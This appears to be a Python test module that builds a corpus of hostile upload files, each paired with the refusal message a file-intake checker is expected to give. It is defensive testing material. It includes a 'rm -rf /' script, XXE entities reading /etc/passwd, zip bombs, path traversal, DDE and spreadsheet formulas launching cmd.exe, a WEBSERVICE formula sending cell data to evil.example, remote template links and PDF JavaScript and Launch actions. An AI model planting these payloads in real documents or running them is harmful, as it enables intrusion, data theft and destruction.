"""The hostile corpus: files somebody might hand in, each made by code, each with its answer.

None of them does harm here: what would run elsewhere is only named, bombs unpack to zeros.
"""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from tests.evidence import good
from tests.evidence.good import content_types, excel, ofd, relations, word, zipped

_VBA = "application/vnd.ms-office.vbaProject"
_W = good.OFFICE + "wordprocessingml."
#: A file that virus scanners agree to report, harmless; in two halves so that ours is left alone.
EICAR = (rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")


@dataclass(frozen=True)
class Hostile:
    """A hostile file: what it is, the name it claims, its bytes, words of the refusal."""

    what: str
    name: str
    make: Callable[[], bytes]
    told: str

    def __str__(self) -> str:
        """Name it in a test's id."""
        return self.what


def hostile() -> Iterator[Hostile]:
    """The whole corpus."""
    for what, name, make, told in (*_DISGUISED, *_ARCHIVES, *_CONTAINERS, *_OFFICE, *_OFD, *_PDF,
                                   *_PICTURES, *_RECORDINGS, *_TEXTS):
        yield Hostile(what, name, make, told)


Row = tuple[str, str, Callable[[], bytes], str]


def _always(data: bytes) -> Callable[[], bytes]:
    return lambda: data


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_DISGUISED: tuple[Row, ...] = (
    ("a program called a picture", "照片.jpg", _always(b"MZ\x90\x00" + bytes(200)), "程序"),
    ("a program with a double extension", "申请表.pdf.exe", _always(b"MZ\x90\x00\x03"), "程序"),
    ("a Linux program", "申请表.pdf", _always(b"\x7fELF\x02\x01\x01" + bytes(60)), "程序"),
    ("a shell script called text", "说明.txt", _always(b"#!/bin/sh\nrm -rf /\n"), "脚本"),
    ("a shortcut", "申请表.pdf.lnk", _always(b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60)),
     "快捷方式"),
    ("a web page called text", "申请.txt", _always(b"<html><script>alert(1)</script></html>"),
     "网页"),
    ("a web page in wide characters", "申请.txt",
     _always(b"\xff\xfe" + "<html><script>".encode("utf-16-le")), "网页"),
    ("a web page behind a mark and spaces", "申请.txt",
     _always(b"\xef\xbb\xbf \r\n<!DOCTYPE html><body onload=x>"), "网页"),
    ("an SVG with a script", "印章.svg", _always(
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), "SVG"),
    ("an SVG called a picture", "印章.png", _always(
        b'<?xml version="1.0"?><svg onload="alert(1)"/>'), "SVG"),
    ("XML that fetches a file", "数据.xml", _always(
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
     "XML"),
    ("an old Word file", "意见.doc", _always(_OLE), "旧格式"),
    ("an old Word file called docx", "意见.docx", _always(_OLE), "旧格式"),
    ("a WPS file", "申请表.wps", _always(_OLE), "另存为docx"),
    ("an RTF file with an object", "意见.rtf", _always(b"{\\rtf1{\\object\\objdata 0105}}"), "RTF"),
    ("a mail with attachments", "申请.eml", _always(
        b"From: a@example.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n"), "邮件打印为PDF"),
    ("PostScript", "图.eps", _always(b"%!PS-Adobe-3.0\n(%pipe%id) run"), "PostScript"),
    ("a photograph nothing here can examine", "IMG_0001.HEIC",
     _always(b"\x00\x00\x00\x18ftypheic" + bytes(40)), "HEIC"),
    ("a file of an unknown kind", "数据.bin", _always(b"\x01\x02\x03" * 50), "类型不能接收"),
    ("a table for a spreadsheet to run", "台账.csv", _always(b"=cmd|' /C calc'!A0\n"),
     "类型不能接收"),
    ("an empty file", "申请表.pdf", _always(b""), "是空的"),
    ("a file that is too large", "扫描.pdf", lambda: b"%PDF-1.7" + bytes(30 * 1024 * 1024),
     "超过30MB"),
)
_ARCHIVES: tuple[Row, ...] = (
    ("a ZIP archive", "材料.zip", lambda: zipped({"申请表.pdf": good.pdf()}), "逐个上传"),
    ("an archive called docx", "材料.docx", lambda: zipped({"virus.exe": b"MZ"}), "逐个上传"),
    ("an archive in an archive", "材料.zip",
     lambda: zipped({"a.zip": zipped({"b.zip": zipped({"c": b"c"})})}), "逐个上传"),
    ("a RAR archive", "材料.rar", _always(b"Rar!\x1a\x07\x01\x00" + bytes(30)), "压缩包"),
    ("a 7z archive", "材料.7z", _always(b"7z\xbc\xaf\x27\x1c" + bytes(30)), "压缩包"),
    ("a gzip archive", "材料.tar.gz", _always(b"\x1f\x8b\x08" + bytes(30)), "压缩包"),
    ("a tar archive", "材料.tar", _always(bytes(257) + b"ustar" + bytes(250)), "压缩包"),
    ("an OpenDocument file", "意见.odt",
     lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": "<a/>",
                     "META-INF/manifest.xml": "<a/>"}), "OpenDocument"),
    ("a Java archive", "申请.docx",
     lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
     "压缩包"),
)


def _lying() -> bytes:
    """A bomb whose list says 10 bytes: 20 MB of zeros come out."""
    data = bytearray(word(parts={"word/media/bomb": "0" * 20_000_000}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/bomb"))
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def _short() -> bytes:
    """A part whose list names fewer bytes, with the right checksum of these: readers differ."""
    data = bytearray(word(parts={"word/media/two": "无害" + "x" * 50}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/media/two"))
    struct.pack_into("<I", data, at + 16, zlib.crc32("无害".encode()))
    struct.pack_into("<I", data, at + 24, 6)
    return bytes(data)


def _two_names() -> bytes:
    """A part that is called one thing in the list and another where it lies."""
    data = word(parts={"word/media/image9": "x"})
    return data.replace(b"word/media/image9", b"word/vbaProject.b", 1)


def _link() -> bytes:
    """A symbolic link to the passwords."""
    out = BytesIO(word())
    with zipfile.ZipFile(out, "a") as container:
        info = zipfile.ZipInfo("word/media/image2.png")
        info.external_attr = 0o120777 << 16
        container.writestr(info, "/etc/passwd")
    return out.getvalue()


def _twice() -> bytes:
    """Two parts of one name, of which each reader takes another."""
    out = BytesIO(word())
    with zipfile.ZipFile(out, "a") as container:
        container.writestr("WORD/document.xml", "<a/>")
    return out.getvalue()


def _locked() -> bytes:
    """A container that asks for a password."""
    data = bytearray(word())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + flags] |= 1
    return bytes(data)


@cache
def _noise() -> str:
    """8 MB that pack to a hundredth."""
    return ("".join(f"{n * 7919:08d}" for n in range(40)) + "0" * 7700) * 1000


_CONTAINERS: tuple[Row, ...] = (
    ("a bomb of zeros", "意见.docx",
     lambda: word(parts={"word/media/bomb": "0" * 100_000_000}), "压缩炸弹"),
    ("a bomb that lies about its size", "意见.docx", _lying, "压缩炸弹"),
    ("a bomb of parts", "意见.docx",
     lambda: word(parts={f"word/media/{n}": "" for n in range(6000)}), "压缩炸弹"),
    ("a bomb of text", "意见.xlsx",
     lambda: excel(parts={f"xl/s{n}.xml": f"<a>{_noise()}</a>" for n in range(9)}), "压缩炸弹"),
    ("a part that is longer than the list says", "意见.docx", _short, "压缩炸弹"),
    ("a part with two names", "意见.docx", _two_names, "已损坏或者结构异常"),
    ("a path that leads out", "意见.docx",
     lambda: zipped({**_parts(word()), "../../etc/cron.d/x": "x"}), "指向别处的路径"),
    ("a path of another system", "意见.docx",
     lambda: zipped({**_parts(word()), "C:\\Windows\\x.png": "x"}), "指向别处的路径"),
    ("a symbolic link", "意见.docx", _link, "符号链接"),
    ("two parts of one name", "意见.docx", _twice, "同名文件"),
    ("a password", "意见.docx", _locked, "密码"),
    ("a page in front of a container", "意见.docx",
     lambda: b"PK\x03\x04<html>" + word(), "已损坏或者结构异常"),
    ("a page behind a container", "意见.docx",
     lambda: word() + b"<html><script>", "已损坏或者结构异常"),
    ("a cut container", "意见.docx", lambda: word()[:-40], "已损坏或者结构异常"),
    ("a changed byte in a part", "意见.docx", lambda: _flipped(word()), "已损坏或者结构异常"),
    ("a container that is a PDF as well", "意见.docx",
     lambda: zipped({"a.txt": b"%PDF-1.7 1 0 obj", **_parts(word())}, zipfile.ZIP_STORED), "PDF"),
    ("Office and OFD at once", "意见.ofd",
     lambda: zipped({**_parts(word()), **_parts(ofd())}), "既像OFD又像Office"),
)


def _flipped(data: bytes) -> bytes:
    at = data.find(b"word/document.xml") + 40
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]


def _parts(container: bytes) -> dict[str, bytes | str]:
    with zipfile.ZipFile(BytesIO(container)) as held:
        return {name: held.read(name) for name in held.namelist()}


def _instructed(*pieces: str) -> str:
    """A field of Word whose instruction is split into runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _related(kind: str, target: str, mode: str = "External") -> Callable[[], bytes]:
    return lambda: word(
        parts={"word/_rels/document.xml.rels": relations((kind, target, mode))})


_ENTITIES = ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
             + "".join(f'<!ENTITY {b} "{f"&{a};" * 9}">'
                       for a, b in ("ab", "bc", "cd", "de", "ef", "fg", "gh", "hi"))
             + "]><a>&i;</a>")
_OFFICE: tuple[Row, ...] = (
    ("macros", "意见.docx", lambda: word(
        parts={"word/vbaProject.bin": b"\xd0\xcf"}), "含有宏"),
    ("macros under another name", "意见.docx",
     lambda: word(parts={"[Content_Types].xml": content_types(_VBA), "word/a.xml": "<a/>"}),
     "含有宏"),
    ("a docm called docx", "意见.docx", lambda: word(parts={"[Content_Types].xml": content_types(
        "application/vnd.ms-word.document.macroEnabled.main+xml")}), "含有宏"),
    ("an old macro sheet", "台账.xlsx",
     lambda: excel(parts={"xl/macrosheets/sheet1.xml": "<a/>"}), "含有宏"),
    ("an embedded file", "意见.docx",
     lambda: word(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "嵌入了其他文件"),
    ("a control", "意见.docx", lambda: word(parts={"word/activeX/activeX1.xml": "<a/>"}),
     "嵌入了其他文件或者控件"),
    ("an object in the text", "意见.docx",
     lambda: word('<w:p><w:object><o:OLEObject xmlns:o="o" Type="Link"/></w:object></w:p>'),
     "嵌入了其他文件"),
    ("a program among the parts", "意见.docx",
     lambda: word(parts={"word/media/setup.exe": b"MZ"}), "不能接收的文件（setup.exe）"),
    ("a program under the name of a picture", "意见.docx",
     lambda: word(parts={"word/media/image2.png": b"MZ\x90"}), "伪装成图片"),
    ("text under the name of a picture", "意见.docx",
     lambda: word(parts={"word/media/image2.png": "<w:document><w:instrText>DDE"}), "伪装成图片"),
    ("wide text under the name of a picture", "意见.docx",
     lambda: word(parts={"word/media/image2.png": "<w:document>".encode("utf-16")}), "伪装成图片"),
    ("a drawing with a script", "意见.docx",
     lambda: word(parts={"word/media/a.svg": "<svg><script>x</script></svg>"}), "含有宏"),
    ("a part without an extension", "意见.docx",
     lambda: word(parts={"word/document": "<w:document/>"}), "不能接收的文件（document）"),
    ("a template elsewhere", "意见.docx",
     _related("attachedTemplate", "http://evil.example/t.dotm"), "外部的模板"),
    ("a picture elsewhere", "意见.docx", _related("image", "http://evil.example/1.png"),
     "外部的模板"),
    ("a frame elsewhere", "意见.docx", _related("frame", "http://evil.example/"), "外部的模板"),
    ("an object elsewhere", "意见.docx", _related("oleObject", "http://evil.example/a!"), "嵌入"),
    ("a link to a network share", "意见.docx",
     _related("hyperlink", "\\\\evil.example\\share"), "外部的模板"),
    ("a share written in numbers", "意见.docx",
     _related("hyperlink", "%5C%5Cevil.example%5Cshare"), "外部的模板"),
    ("a link to a program of this machine", "意见.docx",
     _related("hyperlink", "file:///C:/Windows/System32/calc.exe"), "外部的模板"),
    ("a link that calls the help of Windows", "意见.docx",
     _related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "外部的模板"),
    ("a foreign chunk of a page", "意见.docx", _related("aFChunk", "chunk.htm", ""), "嵌入"),
    ("a field that runs a program", "意见.docx",
     lambda: word(_instructed('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "DDE"),
    ("a field split into runs", "意见.docx",
     lambda: word(_instructed("DD", "EAU", "TO c:\\\\cmd.exe")), "DDE"),
    ("a field spelt by numbers", "意见.docx",
     lambda: word(_instructed(" QUOTE 68 68 69 65 85 84 79 ")), "DDE"),
    ("a simple field that fetches", "意见.docx",
     lambda: word('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/1.png "/>'), "域"),
    ("a formula that runs a program", "台账.xlsx",
     lambda: excel("<c><f>cmd|' /C calc'!A0</f></c>"), "公式"),
    ("a formula that sends out", "台账.xlsx",
     lambda: excel('<c><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></c>'), "公式"),
    ("a link to another workbook", "台账.xlsx",
     lambda: excel(parts={"xl/externalLinks/externalLink1.xml": "<a/>"}), "外部的模板"),
    ("a data connection", "台账.xlsx", lambda: excel(parts={"xl/_rels/workbook.xml.rels": relations(
        ("connections", "connections.xml", ""))}), "外部数据连接"),
    ("entities that multiply", "意见.docx",
     lambda: word(parts={"word/styles.xml": _ENTITIES}), "实体定义"),
    ("an entity that fetches", "意见.docx", lambda: word(parts={"word/styles.xml":
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}), "实体定义"),
    ("a part that is no XML", "意见.docx",
     lambda: word(parts={"word/styles.xml": b"\xff\x00<a"}), "无法解析"),
)
_OFD: tuple[Row, ...] = (
    ("an OFD with a program attached", "公文.ofd",
     lambda: ofd(parts={"Doc_0/Attachs/setup.exe": b"MZ"}), "附件（setup.exe）"),
    ("an OFD that opens an attachment", "公文.ofd", lambda: ofd("<GotoA AttachID='1'/>"), "动作"),
    ("an OFD that leads to a file here", "公文.ofd",
     lambda: ofd("<URI URI='file:///C:/x.exe'/>"), "链接"),
    ("an OFD with a program for a font", "公文.ofd",
     lambda: ofd(parts={"Doc_0/Res/font2.ttf": b"MZ\x90"}), "伪装成图片或者字体"),
    ("an OFD whose entry is none", "公文.ofd",
     lambda: zipped({"OFD.xml": "<html/>", "Doc_0/Document.xml": "<a/>"}), "不是OFD格式"),
    ("an OFD with entities", "公文.ofd", lambda: ofd(parts={"Doc_0/Res.xml": _ENTITIES}),
     "实体定义"),
)


def _pdf_with(change: Callable[[Pdf], None], **options: Any) -> Callable[[], bytes]:
    def make() -> bytes:
        made = pikepdf.new()
        made.add_blank_page()
        change(made)
        return good.saved(made, **options)

    return make


def _opening(action: Callable[[], Dictionary]) -> Callable[[Pdf], None]:
    return lambda made: made.Root.__setitem__(Name.OpenAction, action())


def _annotated(make: Callable[[], Dictionary]) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        annotation = make()
        annotation.Type, annotation.Rect = Name.Annot, Array([0, 0, 9, 9])
        made.pages[0].Annots = Array([made.make_indirect(annotation)])

    return change


def _attached(name: str, data: bytes, kind: str) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        made.attachments[name] = pikepdf.AttachedFileSpec(
            made, data, filename=name, mime_type=kind, description="", creation_date="",
            mod_date="")

    return change


def _form(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=Stream(made, b"<xdp/>"))


def _bomb(made: Pdf) -> None:
    held = Stream(made, zlib.compress(bytes(100_000_000), 9))
    held.Filter = Name.FlateDecode
    made.pages[0].Contents = made.make_indirect(held)


def _twice_packed(made: Pdf) -> None:
    held = Stream(made, zlib.compress(zlib.compress(bytes(100_000_000), 9), 9))
    held.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    made.pages[0].Contents = made.make_indirect(held)


def _huge(made: Pdf) -> None:
    held = Stream(made, b"x")
    held.stream_dict.update({"/Subtype": Name.Image, "/Width": 99999, "/Height": 99999})
    made.Root.Thumb = made.make_indirect(held)


def _js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


_OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
_PDF: tuple[Row, ...] = (
    ("a PDF with a script", "申请.pdf", _pdf_with(_opening(_js)), "脚本"),
    ("a script inside an object stream", "申请.pdf",
     _pdf_with(_opening(_js), **_OBJECT_STREAMS), "脚本"),
    ("a script whose name is written in numbers", "申请.pdf",
     lambda: _pdf_with(_opening(_js))().replace(b"/JavaScript", b"/J#61v#61Scr#69pt")
     .replace(b"/JS", b"/#4aS"), "脚本"),
    ("a script among the names", "申请.pdf", _pdf_with(lambda made: made.Root.__setitem__(
        Name.Names, Dictionary(JavaScript=Dictionary(Names=Array([String("x"), _js()]))))), "脚本"),
    ("a script deep inside", "申请.pdf", _pdf_with(lambda made: made.Root.__setitem__(
        Name.Deep, Array([Array([Dictionary(A=Array([_js()]))])]))), "脚本"),
    ("a PDF that starts a program", "申请.pdf",
     _pdf_with(_opening(lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")))), "动作"),
    ("a PDF that acts when a page opens", "申请.pdf", _pdf_with(
        lambda made: made.pages[0].obj.__setitem__(Name.AA, Dictionary())), "动作"),
    ("a PDF that sends its form", "申请.pdf", _pdf_with(_annotated(lambda: Dictionary(
        Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil"))))), "动作"),
    ("a PDF that opens a network share", "申请.pdf", _pdf_with(_annotated(lambda: Dictionary(
        Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\x"))))), "动作"),
    ("a link that runs a script", "申请.pdf", _pdf_with(_annotated(lambda: Dictionary(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))))), "动作"),
    ("a PDF with a program attached", "申请.pdf",
     _pdf_with(_attached("setup.exe", b"MZ", "application/octet-stream")), "附件"),
    ("a program that claims to be our data", "申请.pdf",
     _pdf_with(_attached("case.json", b"MZ\x90", "application/json")), "附件"),
    ("a file pinned to a page", "申请.pdf",
     _pdf_with(_annotated(lambda: Dictionary(Subtype=Name.FileAttachment))), "附件"),
    ("a film in a PDF", "申请.pdf",
     _pdf_with(_annotated(lambda: Dictionary(Subtype=Name.RichMedia))), "音频、视频"),
    ("a form that changes", "申请.pdf", _pdf_with(_form), "动态表单"),
    ("a locked PDF", "申请.pdf",
     lambda: good.pdf(encryption=pikepdf.Encryption(user="a", owner="b")), "密码"),
    ("a PDF that may not be printed", "申请.pdf",
     lambda: good.pdf(encryption=pikepdf.Encryption(
         owner="b", allow=pikepdf.Permissions(extract=False))), "权限限制"),
    ("a bomb in a PDF", "申请.pdf", _pdf_with(_bomb), "压缩炸弹"),
    ("a bomb packed twice", "申请.pdf",
     _pdf_with(_twice_packed, compress_streams=False), "压缩炸弹"),
    ("a picture of ten thousand million pixels", "申请.pdf", _pdf_with(_huge), "像素过多"),
    ("a PDF with an archive behind it", "申请.pdf",
     lambda: good.pdf() + zipped({"virus.exe": b"MZ"}), "同时又是压缩包"),
    ("a PDF with a program behind it", "申请.pdf",
     lambda: good.pdf() + b"MZ\x90\x00\xff" * 20, "结尾之后"),
    ("a PDF with a page behind it", "申请.pdf",
     lambda: good.pdf() + b"<html><script>alert(1)</script>", "结尾之后"),
    ("a cut PDF", "申请.pdf", lambda: good.pdf()[:200], "不是完整的PDF"),
    ("a PDF of noise", "申请.pdf", _always(b"%PDF-1.7\n" + b"\x00\xffgarbage" * 40 + b"%%EOF"),
     "不是完整的PDF"),
)


def _exif_zip() -> bytes:
    """A photograph with an archive behind its end."""
    return good.jpeg() + zipped({"a.exe": b"MZ"})


_PICTURES: tuple[Row, ...] = (
    ("a picture and an archive", "照片.jpg", _exif_zip, "同时又是压缩包"),
    ("a picture with a page behind it", "照片.png",
     lambda: good.png() + b"<script>alert(1)</script>", "结尾之后还藏有"),
    ("a picture with much behind it", "照片.jpg",
     lambda: good.jpeg() + b"\x01" * 100_000, "结尾之后还有"),
    ("a picture that is a PDF as well", "照片.jpg",
     lambda: good.jpeg(comment=b"%PDF-1.7 1 0 obj"), "同时又是PDF"),
    ("a cut photograph", "照片.jpg", lambda: good.jpeg()[:-60], "不是完整的图片"),
    ("a picture that says it is huge", "照片.png",
     lambda: good.png_of(60000, 60000, zlib.compress(bytes(100))), "像素超过"),
    ("a picture larger than it says", "照片.png",
     lambda: good.png_of(10, 10, zlib.compress(bytes(50_000_000))), "像素超过"),
    ("a picture smaller than it says", "照片.png",
     lambda: good.png_of(1000, 1000, zlib.compress(bytes(100))), "不是完整的图片"),
    ("a changed byte in a picture", "照片.png",
     lambda: good.png()[:60] + b"\x00\x01" + good.png()[62:], "不是完整的图片"),
    ("a scan whose strips lie elsewhere", "扫描.tif",
     lambda: good.tiff_of_two_pages()[:-40], "不是完整的图片"),
    ("a moving picture", "照片.gif", _always(b"GIF89a" + bytes(20)), "GIF"),
    ("a WebP of noise", "照片.webp", _always(b"RIFF\x14\x00\x00\x00WEBPVP8 \x08\x00\x00\x00" +
                                          bytes(8)), "不是完整的图片"),
)
_RECORDINGS: tuple[Row, ...] = (
    ("noise called a recording", "录音.mp3", _always(b"ID3\x03\x00\x00\x00\x00\x00\x00" +
                                                   bytes(4000)), "不是完整的录音"),
    ("a recording with a program behind it", "录音.mp3",
     lambda: good.mp3() + b"MZ This program cannot be run in DOS mode", "结尾之后还藏有"),
    ("a recording that carries a file", "录音.mp3",
     lambda: b"ID3\x04\x00\x00\x00\x00\x00\x14GEOB" + bytes(16) + good.mp3()[20:],
     "夹带了其他文件"),
    ("a cut recording", "录音.wav", lambda: good.wav()[:-100], "不是完整的录音"),
    ("a film whose data lies elsewhere", "录像.mp4",
     lambda: good.mp4().replace(b"url \x00\x00\x00\x01", b"url \x00\x00\x00\x00"), "别处的音频"),
    ("a film with a program behind it", "录像.mp4",
     lambda: good.mp4() + b"MZ\x90\x00" * 9, "不是完整的录音或者录像"),
)
_TEXTS: tuple[Row, ...] = (
    ("text with a zero byte", "说明.txt", _always("说明\x00".encode()), "控制字符"),
    ("text that drives a terminal", "说明.txt", _always(b"\x1b]0;evil\x07text"), "控制字符"),
    ("bytes that are no text", "说明.txt", _always(b"\x80\xff\xfe\xfd" * 9), "不是文本"),
    ("a text that is too long", "说明.txt", lambda: b"a" * (6 * 1024 * 1024), "超过5MB"),
)
